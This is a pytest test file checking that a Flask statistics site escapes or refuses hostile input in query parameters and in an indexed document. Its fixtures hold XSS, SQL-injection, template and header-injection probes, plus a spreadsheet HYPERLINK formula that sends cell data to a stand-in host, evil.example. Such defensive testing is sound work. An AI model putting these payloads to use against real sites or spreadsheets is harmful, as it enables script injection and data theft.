"""What somebody means ill with: addresses of the figures pages that no page leads to, and documents that carry code."""

from __future__ import annotations

from urllib.parse import urlencode

import pytest
from figure_examples import client_of, write_files
from flask.testing import FlaskClient
from selectolax.lexbor import LexborHTMLParser as HTMLParser

from index.builder import build
from index.embedding import Embedder

pytest_plugins = ["figure_parts"]

MEASURE = "/figures/people-in-reablement"
SCRIPT = "<script>alert(1)</script>"
NAMES = "q area group period unit document status availability from part figure ranks pick chart id measure title kind"
VALUES = (
    SCRIPT,
    '"><img src=x onerror=alert(1)>',
    "' OR 1=1 --",
    "\x00",
    "{{7*7}}",
    "\r\nX: y",
    "9" * 400,
    "%",
    "\u202e",
)
FORMULA = '=HYPERLINK("http://evil.example"&A1)'
FILES = {
    "catalogue.toml": f"""
[[document]]
id = "hostile"
path = "hostile.csv"
title = '{SCRIPT} title'
publisher = "@SUM(A1)"
area = "Kent"
published = "2024-11"
""",
    "hostile.csv": "measure,area,period,unit,value\n"
    + "".join(
        f'"{measure}","{area}",{year},people,{value}\n'
        for measure, area in ((SCRIPT, "</title>" + SCRIPT), (FORMULA.replace('"', '""'), "Kent"))
        for year, value in (("2022-23", 9), ("2023-24", 12))
    ),
}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, embedder: Embedder) -> FlaskClient:
    """A client of the site over a document whose labels, areas and title carry code."""
    folder = tmp_path_factory.mktemp("hostile")
    build(write_files(folder / "corpus", FILES), folder / "index", embedder=embedder)
    return FlaskClient(client_of(folder / "index", embedder).application)  # what stands there is not in our words


@pytest.mark.parametrize("name", NAMES.split())
def test_addresses(figures_client: FlaskClient, name: str) -> None:
    """Whatever stands in an address, it is answered with a page or a plain refusal, and never runs."""
    paths = ("", "/people-in-reablement", "/people-in-reablement/figure", "/people-in-reablement.svg", "/briefing")
    paths += ("/people-in-reablement.json", "/people-in-reablement.csv", "/changes", "/compare", "/compare.csv")
    client = FlaskClient(figures_client.application)  # what somebody typed is not in our words
    for path in paths:
        for value in VALUES:
            asked = {"measure": "people-in-reablement"} if path.startswith("/compare") and name != "measure" else {}
            response = client.get(f"/figures{path}?{urlencode(asked | {name: value})}")
            assert response.status_code in (200, 404), (path, value)
            assert response.mimetype not in ("text/html", "image/svg+xml") or "alert(1)<" not in response.text
            assert "X" not in response.headers


@pytest.mark.parametrize("page", ["/figures", MEASURE, "/figures/briefing", "/figures/compare", "/documents"])
def test_an_address_is_not_sent_back_many_times(figures_client: FlaskClient, page: str) -> None:
    """An address longer than any that a page leads to is refused in few words: its links would carry it on."""
    response = figures_client.get(f"{page}?area={'x' * 10_000}")
    assert response.status_code == 414
    assert "The address is too long" in response.text
    assert len(response.data) < 10_000


def test_a_full_briefing_has_room(figures_client: FlaskClient) -> None:
    """An address with as many figures as a briefing holds is none too long."""
    picks = [(("pick"), f"adult-social-care-outcomes-framework-2024-25-all:{n}.3020213:360c036217") for n in range(40)]
    assert figures_client.get(f"/figures/briefing?{urlencode([*picks, ('title', 'x' * 120)])}").status_code == 200


def test_documents_that_carry_code(hostile: FlaskClient) -> None:
    """What a document brings stands on pages and in charts as text, and in files as no formula."""
    links = [link.attributes["href"] or "" for link in HTMLParser(hostile.get("/figures").text).css(".measures a")]
    assert len(links) == 2
    for link in links:
        for path in (link, f"{link}.svg?area=Kent", f"{link}.svg", f"/figures/compare?measure={link.split('/')[-1]}"):
            assert "<script>alert" not in hostile.get(path).text
        for line in hostile.get(f"{link}.csv").text.splitlines()[1:]:
            assert not line.lstrip('"').startswith(("=", "@", "+", "-"))
            assert ",@SUM" not in line
